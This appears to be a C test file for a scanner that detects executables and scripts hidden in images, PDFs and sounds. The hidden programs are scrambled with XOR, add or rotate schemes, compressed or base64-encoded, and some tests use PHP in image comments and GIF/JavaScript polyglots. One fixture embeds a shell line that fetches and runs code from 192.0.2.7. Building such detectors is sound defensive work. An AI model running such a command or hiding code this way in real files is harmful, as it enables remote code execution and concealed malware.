// SPDX-License-Identifier: Apache-2.0
/* Scrambled headers, comments with code, files that are two things at once. Harmless bytes: DAVY TEST IMITATION. */
#include "base/cleanup.h"
#include "base/strbuf.h"
#include "inspect/media.h"
#include "inspect/test-look.h"

static struct facts facts;

static void look(struct str content)
{
    static const char *const only[] = {"media", "elf", "script", NULL};
    look_with(&(struct inspect_options){.only = only}, NULL, content, &facts);
}

static bool lists(enum field_id id, const char *want)
{
    return facts_list(&facts, id, want);
}

#define PNG_HEAD STR("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x8\0\0\0\0\x3a\x7e\x9b\x55")
#define PNG_END  STR("\0\0\0\0IEND\xae\x42\x60\x82")
#define GIF_HEAD STR("GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff")
#define GIF_END  STR(",\0\0\0\0\1\0\1\0\0\2\2\x44\1\0;")

/* Headers that say a program begins, and nothing behind them. */
static const uint8_t ELF[128] = "\x7f"
                                "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0\1\0\0\0";

static void pe(uint8_t *p)
{
    memset(p, 0, 128);
    memcpy(p, "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40", 25);
    p[60] = 100;
    memcpy(p + 100, "PE\0\0\x64\x86", 6);
}

/* Numbers that look like noise and are the same on every run. */
static void noise(struct strbuf *b, size_t n, uint64_t seed)
{
    while (n--) {
        seed = seed * 6364136223846793005u + 1442695040888963407u;
        strbuf_addc(b, (char)(seed >> 56));
    }
}

static bool find(const uint8_t *program, enum scramble how, const uint8_t *key, unsigned n_key, size_t before,
                 struct embedded *e)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    noise(&b, before, before);
    for (size_t i = 0; i < 128; i++) {
        uint8_t v = program[i];
        v = how == SCRAMBLE_XOR   ? v ^ key[i % n_key]
            : how == SCRAMBLE_ADD ? (uint8_t)(v + key[0])
            : how == SCRAMBLE_ROL ? (uint8_t)(v << key[0] | v >> (8 - key[0]))
                                  : v;
        strbuf_addc(&b, (char)v);
    }
    noise(&b, 77, 3);
    return media_find_program(strbuf_str(&b), 0, e) && e->at == before;
}

TEST(keys_of_every_length)
{
    static const uint8_t KEY[8] = {0xa7, 0x13, 0xf0, 0x4e, 0x99, 0x02, 0x6b, 0xd8};
    uint8_t windows[128];
    struct embedded e;
    pe(windows);
    for (unsigned n = 2; n <= 8; n++)
        for (size_t before = 0; before < 40; before += 13) {
            CHECK(find(ELF, SCRAMBLE_XOR, KEY, n, before, &e));
            CHECK_INT(e.kind, KIND_ELF);
            CHECK_INT(e.n_key, n);
            CHECK(!memcmp(e.key, KEY, n));
            CHECK(find(windows, SCRAMBLE_XOR, KEY, n, before, &e));
            CHECK_INT(e.kind, KIND_PE);
            CHECK_INT(e.n_key, n);
            CHECK(!memcmp(e.key, KEY, n));
        }
}

TEST(added_and_rotated)
{
    uint8_t windows[128];
    struct embedded e;
    pe(windows);
    for (unsigned key = 1; key < 256; key++) {
        uint8_t k = (uint8_t)key;
        /* Adding 0x80 is the same as XORing with it. */
        CHECK(find(ELF, SCRAMBLE_ADD, &k, 1, 200, &e) && (e.how == SCRAMBLE_ADD || key == 0x80) &&
              e.key[0] == key && e.kind == KIND_ELF);
        CHECK(find(windows, SCRAMBLE_ADD, &k, 1, 5, &e) && e.key[0] == key && e.kind == KIND_PE);
        CHECK(find(windows, SCRAMBLE_XOR, &k, 1, 5, &e) && e.key[0] == key && e.kind == KIND_PE);
    }
    for (uint8_t k = 1; k < 8; k++) {
        CHECK(find(ELF, SCRAMBLE_ROL, &k, 1, 31, &e) && e.how == SCRAMBLE_ROL && e.key[0] == k);
        CHECK(find(windows, SCRAMBLE_ROL, &k, 1, 0, &e) && e.how == SCRAMBLE_ROL && e.key[0] == k);
    }
}

TEST(the_program_is_looked_at_unscrambled)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_add(&b, PNG_HEAD);
    strbuf_add(&b, PNG_END);
    for (size_t i = 0; i < sizeof(ELF); i++)
        strbuf_addc(&b, (char)(ELF[i] ^ "key"[i % 3]));
    look(strbuf_str(&b));
    CHECK(lists(F_MEDIA_EMBEDDED, "elf^0x6b6579"));
    CHECK(lists(F_UNWRAP_CHAINS, "xor:6b6579"));
    CHECK_STR(facts_get_str(&facts, F_ELF_MACHINE), "x86_64");
}

/* All of a program, header and zeros, in each way that only the beginning shows. */
static void whole(struct strbuf *b, enum scramble how, const uint8_t *key, unsigned n_key)
{
    uint8_t plain[4096] = {}, before = 0;
    memcpy(plain, ELF, sizeof(ELF));
    for (size_t i = 1024; i < 1500; i++)
        plain[i] = (uint8_t)(i * 7);
    for (size_t i = 0; i < sizeof(plain); i++) {
        uint8_t v = plain[how == SCRAMBLE_TURNS ? sizeof(plain) - 1 - i : i], k = key[i % n_key];
        uint8_t last = i ? (uint8_t)b->p[b->n - 1] : key[0];
        v = how == SCRAMBLE_GROWS    ? v ^ (uint8_t)(key[0] + key[1] * i)
            : how == SCRAMBLE_CHAIN  ? v ^ last
            : how == SCRAMBLE_BEFORE ? v ^ (i ? before : key[0])
            : how == SCRAMBLE_SKIPS  ? (v && v != k ? v ^ k : v)
            : how == SCRAMBLE_XOR    ? v ^ k
                                     : v;
        before = plain[i];
        strbuf_addc(b, (char)v);
    }
}

TEST(programs_scrambled_as_a_whole)
{
    static const struct {
        enum scramble how;
        const char *key;
        unsigned n;
        const char *embedded, *chain;
    } CASES[] = {
        {SCRAMBLE_XOR, "\x42", 1, "elf^0x42", "xor:42"},
        {SCRAMBLE_XOR, "0123456789abcdef", 16, "elf^0x30313233343536373839616263646566", "xor:30313233343536373839616263646566"},
        {SCRAMBLE_XOR, "A key that is longer than an ELF header's run of zeros.", 55, NULL, NULL},
        {SCRAMBLE_GROWS, "\x21\x01", 2, "elf^0x21+01", "xor:21+01"},
        {SCRAMBLE_GROWS, "\x90\xfd", 2, "elf^0x90+fd", "xor:90+fd"},
        {SCRAMBLE_CHAIN, "\x55", 1, "elf^chain", "xor-chain"},
        {SCRAMBLE_BEFORE, "\x55", 1, "elf^before", "xor-before"},
        {SCRAMBLE_SKIPS, "\x5a", 1, "elf^0x5a", "xor-skip:5a"},
        {SCRAMBLE_TURNS, "", 1, "elf,turned", "rev"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++)
        for (int behind = 0; behind < 2; behind++) {
            _cleanup_(strbuf_done) struct strbuf b = {};
            whole(&b, CASES[i].how, (const uint8_t *)CASES[i].key, CASES[i].n);
            struct str scrambled = strbuf_str(&b);
            _cleanup_(strbuf_done) struct strbuf picture = {};
            strbuf_add(&picture, GIF_HEAD);
            strbuf_add(&picture, GIF_END);
            strbuf_add(&picture, scrambled);
            static const char *const only[] = {"media", "elf", "script", NULL};
            look_with(&(struct inspect_options){.only = only}, "/srv/x.gif", behind ? strbuf_str(&picture) : scrambled, &facts);
            if (!facts_has(&facts, F_MEDIA_EMBEDDED) || (CASES[i].embedded && !lists(F_MEDIA_EMBEDDED, CASES[i].embedded)))
                test_fail(__FILE__, __LINE__, "%zu: %s", i, CASES[i].embedded ? CASES[i].embedded : "a long key");
            CHECK_STR(facts_get_str(&facts, F_ELF_MACHINE), "x86_64");
        }
}

TEST(what_is_no_program_as_a_whole)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    struct embedded e;
    noise(&b, 64 << 10, 7);
    CHECK(!media_is_program(strbuf_str(&b), true, &e));
    for (unsigned period = 1; period <= 64; period++) {
        strbuf_clear(&b);
        for (size_t i = 0; i < 4096; i++)
            strbuf_addc(&b, (char)((i % period) * 37));
        CHECK(!media_is_program(strbuf_str(&b), true, &e));
    }
    look(STR("\x7f" "ELF is how it begins, and then it is a text about programs, which goes on for long enough"));
    CHECK(!facts_has(&facts, F_MEDIA_EMBEDDED));
}

/* Programs that are packed or in base64 within a document, a picture or a sound. */
TEST(encoded_programs)
{
    /* 128 bytes of ELF above, deflated with zlib and with gzip, and in base64 */
    static const char ZLIB[] = "\170\234\253\167\365\161\143\142\144\144\200\001\046\006\073\006\004\217\366\000\000\307\256\001\234", GZIP[] = "\037\213\010\000\000\000\000\000\002\003\253\167\365\161\143\142\144\144\200\001\046\006\073\006\004\217\366\000\000\117\361\047\056\200\000\000\000", BASE64[] = "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    const struct {
        struct str front, middle, back;
        bool is_found;
    } CASES[] = {
        {STR("%PDF-1.4\n1 0 obj<</Filter/FlateDecode>>stream\r\n"), str_n(ZLIB, sizeof(ZLIB) - 1), STR("\nendstream endobj\n%%EOF\n"), true},
        {STR("%PDF-1.4\n1 0 obj<<>>stream\n"), str_n(GZIP, sizeof(GZIP) - 1), STR("\nendstream endobj\n%%EOF\n"), true},
        {STR("\xff\xd8\xff\xe5\1\0\0"), str_n(BASE64, sizeof(BASE64) - 1), STR("\0\0\xff\xd9"), true},
        {STR("\xff\xd8\xff\xe5\1\0\0"), str_n(GZIP, sizeof(GZIP) - 1), STR("\0\0\xff\xd9"), true},
        {STR("%PDF-1.4\n1 0 obj<</Filter/FlateDecode>>stream\r\n"), STR("\170\234\335\314\321\011\300\040\014\105\321\125\336\000\245\073\070\112\212\251\012\232\047\061\205\216\137\347\350\317\345\174\335\204\320\067\020\125\002\155\241\323\012\324\370\224\212\040\056\335\355\031\267\163\300\330\226\036\020\313\233\230\316\342\062\116\244\137\034\076\352\265\134\151"), STR("\nendstream endobj\n%%EOF\n"), false},
        {STR("\xff\xd8\xff\xe5\1\0\0"), STR("\037\213\010\000\000\000\000\000\002\003\335\314\321\011\300\040\014\105\321\125\336\000\245\073\070\112\212\251\012\232\047\061\205\216\137\347\350\317\345\174\335\204\320\067\020\125\002\155\241\323\012\324\370\224\212\040\056\335\355\031\267\163\300\330\226\036\020\313\233\230\316\342\062\116\244\137\034\076\224\122\274\025\010\001\000\000"), STR("\0\0\xff\xd9"), false},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        _cleanup_(strbuf_done) struct strbuf b = {};
        strbuf_add(&b, CASES[i].front);
        strbuf_add(&b, CASES[i].middle);
        strbuf_add(&b, CASES[i].back);
        look(strbuf_str(&b));
        if (facts_has(&facts, F_ELF_MACHINE) != CASES[i].is_found || facts_has(&facts, F_UNWRAP_CHAINS) != CASES[i].is_found)
            test_fail(__FILE__, __LINE__, "case %zu", i);
    }
}

TEST(noise_and_patterns_hold_no_program)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    struct embedded e;
    noise(&b, 4 << 20, 42);
    CHECK(!media_find_program(strbuf_str(&b), 0, &e));
    for (unsigned period = 1; period <= 48; period++) {
        strbuf_clear(&b);
        for (size_t i = 0; i < 4096; i++)
            strbuf_addc(&b, (char)((i % period) * 37));
        CHECK(!media_find_program(strbuf_str(&b), 0, &e));
    }
    CHECK(!media_find_program(STR("\x7f" "ELF and MZ are only letters here, in a text that is long enough to be looked at whole"),
                              0, &e));
}

TEST(code_in_comments)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    struct str code = STR("<?php /* DAVY TEST IMITATION */ echo 1; ?>");
    strbuf_add(&b, GIF_HEAD);
    strbuf_addc(&b, 0x21);
    strbuf_addc(&b, (char)0xfe);
    strbuf_addc(&b, (char)code.n);
    strbuf_add(&b, code);
    strbuf_addc(&b, 0);
    strbuf_add(&b, GIF_END);
    look(strbuf_str(&b));
    CHECK(lists(F_MEDIA_CODE, "php"));
    CHECK(lists(F_UNWRAP_CHAINS, "php"));
    CHECK_STR(facts_get_str(&facts, F_SCRIPT_INTERPRETER), "php");
    CHECK_INT(facts_get(&facts, F_MEDIA_END)->u, b.n);
    strbuf_clear(&b);
    strbuf_add(&b, STR("\xff\xd8\xff\xe1\0\x18" "Exif\0\0II*\0<?php x();\xff\xd9"));
    look(strbuf_str(&b));
    CHECK(lists(F_MEDIA_CODE, "php"));
    look(STR("\xff\xd8\xff\xe1\0\x18" "Exif\0\0II*\0<?xpacket?\xff\xd9"));
    CHECK(!facts_has(&facts, F_MEDIA_CODE));
}

TEST(comments_and_text_are_read)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    struct str text = STR("Comment\0#!/bin/sh\n# DAVY TEST IMITATION\ncurl -s http://192.0.2.7/a | sh\n");
    strbuf_add(&b, PNG_HEAD);
    strbuf_add(&b, STR("\0\0\0"));
    strbuf_addc(&b, (char)text.n);
    strbuf_adds(&b, "tEXt");
    strbuf_add(&b, text);
    strbuf_add(&b, STR("crc4"));
    strbuf_add(&b, PNG_END);
    look(strbuf_str(&b));
    CHECK(lists(F_UNWRAP_CHAINS, "text"));
    CHECK(facts_has(&facts, F_SCRIPT_DOWNLOAD_RUN));
    CHECK(!facts_has(&facts, F_MEDIA_CHUNKS));
}

TEST(unknown_chunks_with_noise)
{
    for (unsigned known = 0; known < 2; known++) {
        _cleanup_(strbuf_done) struct strbuf b = {};
        strbuf_add(&b, PNG_HEAD);
        strbuf_add(&b, STR("\0\0\x20\0"));
        strbuf_adds(&b, known ? "IDAT" : "daVy");
        noise(&b, 8192, 1);
        strbuf_add(&b, STR("crc4"));
        strbuf_add(&b, PNG_END);
        look(strbuf_str(&b));
        CHECK(lists(F_MEDIA_CHUNKS, "daVy") == !known);
        CHECK_INT(facts_get(&facts, F_MEDIA_END)->u, b.n);
    }
}

TEST(two_things_at_once)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_add(&b, GIF_HEAD);
    strbuf_add(&b, GIF_END);
    strbuf_add(&b, STR("PK\1\2"));
    strbuf_add(&b, STR("PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"));
    look(strbuf_str(&b));
    CHECK(lists(F_MEDIA_ALSO, "zip"));
    look(STR("GIF89a/*\1\0\0\0\0\0 picture */=1;alert('DAVY TEST IMITATION')//"));
    CHECK(lists(F_MEDIA_ALSO, "javascript"));
    strbuf_clear(&b);
    strbuf_add(&b, GIF_HEAD);
    strbuf_add(&b, GIF_END);
    look(strbuf_str(&b));
    CHECK(!facts_has(&facts, F_MEDIA_ALSO));
}

TEST(ends_of_sounds_icons_and_drawings)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_add(&b, STR("RIFF\x0c\0\0\0WAVEdata\0\0\0\0"));
    strbuf_add(&b, STR("tail"));
    look(strbuf_str(&b));
    CHECK_STR(facts_get_str(&facts, F_FILE_KIND), "wav");
    CHECK_INT(facts_get(&facts, F_MEDIA_TAIL_SIZE)->u, 4);
    strbuf_clear(&b);
    strbuf_add(&b, STR("\0\0\1\0\1\0\1\1\0\0\1\0\x20\0\x40\0\0\0\x16\0\0\0"));
    strbuf_pad(&b, 'x', 0x40 + 3);
    look(strbuf_str(&b));
    CHECK_STR(facts_get_str(&facts, F_FILE_KIND), "ico");
    CHECK_INT(facts_get(&facts, F_MEDIA_TAIL_SIZE)->u, 3);
    strbuf_clear(&b);
    for (unsigned i = 0; i < 4; i++) { /* 128 kbit/s at 44.1 kHz: 417 bytes */
        strbuf_add(&b, STR("\xff\xfb\x90\0"));
        strbuf_pad(&b, 0, 413);
    }
    strbuf_adds(&b, "behind it");
    look(strbuf_str(&b));
    CHECK_STR(facts_get_str(&facts, F_FILE_KIND), "mp3");
    CHECK_INT(facts_get(&facts, F_MEDIA_END)->u, 4 * 417);
    /* a film of three boxes, the last with a long size */
    struct str film = STR("\0\0\0\x14" "ftypisom\0\0\2\0isom" "\0\0\0\x08" "free" "\0\0\0\1" "mdat\0\0\0\0\0\0\0\x14" "abcd");
    strbuf_clear(&b);
    strbuf_add(&b, film);
    look(strbuf_str(&b));
    CHECK_STR(facts_get_str(&facts, F_FILE_KIND), "mp4");
    CHECK_INT(facts_get(&facts, F_MEDIA_TAIL_SIZE)->u, 0);
    strbuf_add(&b, STR("\x7f" "ELF is no box"));
    look(strbuf_str(&b));
    CHECK_INT(facts_get(&facts, F_MEDIA_END)->u, film.n);
    look(STR("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><g/></svg>\n"));
    CHECK_STR(facts_get_str(&facts, F_FILE_KIND), "svg");
    CHECK_STR(facts_get_str(&facts, F_MEDIA_TAIL_KIND), "padding");
    facts_done(&facts);
}
